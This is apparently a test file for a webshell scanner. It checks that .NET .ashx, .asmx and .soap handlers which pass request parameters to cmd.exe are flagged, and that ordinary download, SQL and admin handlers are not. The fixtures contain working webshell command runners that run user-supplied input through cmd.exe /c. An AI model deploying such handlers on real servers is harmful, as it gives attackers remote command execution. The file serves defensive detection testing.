// .NET handlers and services as command runners: the request object kept in a variable or received as
// a parameter (.ashx), [WebMethod] parameters (.asmx, C# and VB), and the public methods of a Remoting
// object served as .soap. Traps are handlers and services of ordinary applications.
import assert from "node:assert/strict";
import { test } from "node:test";
import { analyse } from "../../src/detections/webshells/analyse.js";
import { contentDrafts as run, swept } from "../sweep-helpers.js";

const DIR = "D:\\Sites\\shop\\";
const checks = (name: string, body: string) => run(swept(`${DIR}${name}`, body)).map((d) => d.check);
const flows = (name: string, body: string) => [...analyse(Buffer.from(body, "latin1"), name).flows];

const ASHX = '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Diagnostics;\n';

test(".ashx command runner through a request alias: HttpRequest variable, HttpContext.Current.Request, VB", () => {
  const alias = [
    ASHX,
    "public class H : IHttpHandler { public void ProcessRequest(HttpContext ctx) {",
    "  HttpRequest req = ctx.Request;",
    '  string c = req.QueryString["c"];',
    '  var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false });',
    "} public bool IsReusable { get { return false; } } }",
  ].join("\n");
  assert.deepEqual(checks("a.ashx", alias), ["webshell-cmd-runner"]);
  const current = [
    ASHX,
    "public class H : IHttpHandler { public void ProcessRequest(HttpContext context) {",
    "  var r = HttpContext.Current.Request;",
    '  Process p = new Process(); p.StartInfo.FileName = r.Form["f"];',
    '  p.StartInfo.Arguments = r.Form.Get("a"); p.Start();',
    "} public bool IsReusable => false; }",
  ].join("\n");
  assert.deepEqual(checks("b.ashx", current), ["webshell-cmd-runner"]);
  // The request handed to a helper as a typed parameter (VB).
  const vb = [
    '<%@ WebHandler Language="VB" Class="H" %>',
    "Public Class H : Implements IHttpHandler",
    "  Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest",
    "    Run(context.Request, context.Response)",
    "  End Sub",
    "  Private Sub Run(ByVal rq As HttpRequest, ByVal rs As HttpResponse)",
    '    Dim si As New ProcessStartInfo("cmd.exe", "/c " & rq.Params("x"))',
    "    rs.Write(Process.Start(si).StandardOutput.ReadToEnd())",
    "  End Sub",
    "End Class",
  ].join("\n");
  assert.deepEqual(checks("c.ashx", vb), ["webshell-cmd-runner"]);
});

test("request-alias traps: a download handler and a JSON handler that read through an alias", () => {
  const download = [
    ASHX,
    "public class Dl : IHttpHandler { public void ProcessRequest(HttpContext context) {",
    "  HttpRequest request = context.Request; var q = context.Request;",
    '  string name = Path.GetFileName(q.QueryString["file"]);',
    '  string path = Path.Combine(context.Server.MapPath("~/App_Data/exports"), name);',
    "  context.Response.TransmitFile(path);",
    "} public bool IsReusable => true; }",
  ].join("\n");
  assert.deepEqual(checks("dl.ashx", download), []);
  const json = [
    ASHX,
    "public class Api : IHttpHandler { public void ProcessRequest(HttpContext ctx) {",
    "  HttpRequestBase rq = new HttpRequestWrapper(ctx.Request);",
    '  int id = int.Parse(rq.QueryString["id"]);',
    '  var cmd = new SqlCommand("SELECT Name FROM Products WHERE Id = @id", conn);',
    '  cmd.Parameters.AddWithValue("@id", id);',
    "  ctx.Response.Write(Json(cmd.ExecuteScalar()));",
    "} public bool IsReusable => true; }",
  ].join("\n");
  assert.deepEqual(checks("api.ashx", json), []);
});

test(".asmx and .soap command runners: VB <WebMethod()>, attributes before the method, Remoting public methods", () => {
  const vb = [
    '<%@ WebService Language="VB" Class="Svc" %>',
    "Imports System.Web.Services",
    "Public Class Svc : Inherits WebService",
    "  <WebMethod()> Public Function Exec(ByVal cmd As String) As String",
    "    Dim p As New Process()",
    '    p.StartInfo.FileName = "cmd.exe"',
    '    p.StartInfo.Arguments = "/c " & cmd',
    "    p.Start() : Return p.StandardOutput.ReadToEnd()",
    "  End Function",
    "End Class",
  ].join("\n");
  assert.deepEqual(checks("s.asmx", vb), ["webshell-cmd-runner"]);
  const attrs = [
    '<%@ WebService Language="C#" Class="Svc" %>',
    "public class Svc : WebService {",
    '  [WebMethod(EnableSession = true, Description = "ping")]',
    "  [ScriptMethod(ResponseFormat = ResponseFormat.Json)]",
    '  public string Ping(string host, string opts) { return Shell("ping " + opts + " " + host); }',
    "  private string Shell(string line) {",
    '    var psi = new ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + line };',
    "    using (var p = Process.Start(psi)) return p.StandardOutput.ReadToEnd();",
    "  } }",
  ].join("\n");
  assert.deepEqual(checks("p.asmx", attrs), ["webshell-cmd-runner"]);
  const soap = [
    '<%@ WebService Language="C#" Class="Remote" %>',
    "public class Remote : MarshalByRefObject {",
    "  public string Run(string command) {",
    '    Process p = new Process(); p.StartInfo = new ProcessStartInfo("cmd.exe", "/c " + command);',
    "    p.Start(); return p.StandardOutput.ReadToEnd();",
    "  } }",
  ].join("\n");
  assert.deepEqual(checks("r.soap", soap), ["webshell-cmd-runner"]);
});

test("service traps: a web method that queries by its parameter, a Remoting object that restarts a fixed service", () => {
  const lookup = [
    '<%@ WebService Language="C#" Class="Stock" %>',
    "public class Stock : WebService {",
    "  [WebMethod] public int Level(string sku) {",
    '    var c = new SqlCommand("SELECT Qty FROM Stock WHERE Sku = @s", conn); c.Parameters.AddWithValue("@s", sku);',
    "    return (int)c.ExecuteScalar(); } }",
  ].join("\n");
  assert.deepEqual(checks("stock.asmx", lookup), []);
  const remoting = [
    '<%@ WebService Language="C#" Class="Ops" %>',
    "public class Ops : MarshalByRefObject {",
    "  public int Add(int a, int b) { return a + b; }",
    '  public void Recycle() { Process.Start(@"C:\\Windows\\System32\\iisreset.exe", "/restart"); } }',
  ].join("\n");
  assert.deepEqual(checks("ops.soap", remoting), []);
  // The same public method in an .aspx page's code is not a remoting endpoint.
  assert.ok(!flows("calc.aspx", `<% ${remoting.split("\n").slice(1).join("\n")} %>`).includes("process"));
});

test("ProcessStartInfo object initializer over lines is a process sink; trap: a fixed program with a validated argument", () => {
  const init = [
    '<%@ WebService Language="C#" Class="Svc" %>',
    "public class Svc : WebService {",
    "  [WebMethod] public void Run(string cmd) {",
    "    var process = new Process {",
    "      StartInfo = new ProcessStartInfo {",
    '        FileName = "cmd.exe",',
    '        Arguments = "/c " + cmd,',
    "        UseShellExecute = false",
    "      } };",
    "    process.Start(); } }",
  ].join("\n");
  assert.deepEqual(checks("i.asmx", init), ["webshell-cmd-runner"]);
  const admin = [
    '<%@ Page Language="C#" %>',
    '<script runat="server">',
    "protected void btnRecycle_Click(object sender, EventArgs e) {",
    "  string pool = ddlPool.SelectedValue;",
    '  if (!Regex.IsMatch(pool, "^[A-Za-z0-9 _-]+$")) return;',
    '  Process.Start(@"C:\\Windows\\System32\\inetsrv\\appcmd.exe", "recycle apppool /apppool.name:" + pool).WaitForExit();',
    "}",
    "</script>",
    '<html><body><form runat="server"><asp:DropDownList ID="ddlPool" runat="server" /></form></body></html>',
  ].join("\n");
  assert.deepEqual(checks("recycle.aspx", admin), []);
  // The same page with a shell as the program stays a command runner.
  assert.deepEqual(checks("r.aspx", admin.replace("C:\\Windows\\System32\\inetsrv\\appcmd.exe", "cmd.exe")), [
    "webshell-cmd-runner",
  ]);
});
